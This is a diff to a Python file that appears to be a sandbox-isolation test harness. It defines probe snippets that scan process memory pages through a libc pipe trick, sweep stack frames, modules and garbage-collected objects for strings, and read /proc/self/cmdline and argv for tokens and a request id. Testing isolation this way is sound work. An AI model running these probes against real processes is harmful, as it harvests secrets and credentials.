@@ -29,8 +29,7 @@ _OWN_MEMORY_BY_POINTER = """
 import ctypes
 libc = ctypes.CDLL(None, use_errno=True)
 read_end, write_end = os.pipe()
-anchors = {id(object) & ~0xFFFFF, id([]) & ~0xFFFFF, ctypes.addressof(ctypes.c_int()) & ~0xFFFFF, id(FIND_ME := {}) & ~0xFFFFF}
-for anchor in anchors:
+for anchor in {place & ~0xFFFFF for place in (id(object), id([]), id(sys.path), ctypes.addressof(ctypes.c_int()))}:
     for page in range(anchor - (8 << 20), anchor + (8 << 20), 4096):
         if libc.write(write_end, ctypes.c_void_p(page), ctypes.c_size_t(4096)) == 4096:
             tell(os.read(read_end, 4096))
@@ -43,9 +42,12 @@ def walk(frame):
         yield frame.f_locals
         yield frame.f_globals
         frame = frame.f_back
-for space in [*walk(sys._getframe()), *[vars(m) for m in list(sys.modules.values()) if hasattr(m, "__dict__")], *gc.get_objects()]:
+modules = [vars(module) for module in list(sys.modules.values()) if hasattr(module, "__dict__")]
+for space in [*walk(sys._getframe()), *modules, *gc.get_objects()]:
     try:
-        for value in (space.values() if isinstance(space, dict) else space if isinstance(space, (list, tuple, set)) else ()):
+        if isinstance(space, dict):
+            space = list(space.values())
+        for value in space if isinstance(space, (list, tuple, set)) else ():
             if isinstance(value, (str, bytes)):
                 tell(value.encode(errors="replace") if isinstance(value, str) else value)
     except Exception:
@@ -134,9 +136,9 @@ for shm in {libc.shmget(@SYSV@, 0, 0), *range(64)}:
     "own_memory": _OWN_MEMORY,
     "own_memory_by_pointer": _OWN_MEMORY_BY_POINTER,
     "own_objects": _OBJECTS,
-    "coverage_of_request": """
+    "own_request": """
 # The request's own secrets: tokens, caller, request id.
-for text in (read("/proc/self/cmdline"), read("/proc/self/comm"), repr(sys.argv).encode(), repr(sys.orig_argv).encode()):
+for text in (read("/proc/self/cmdline"), read("/proc/self/comm"), repr(sys.argv + sys.orig_argv).encode()):
     tell(text)
     if b"@REQUEST@" in text:
         win("request id")
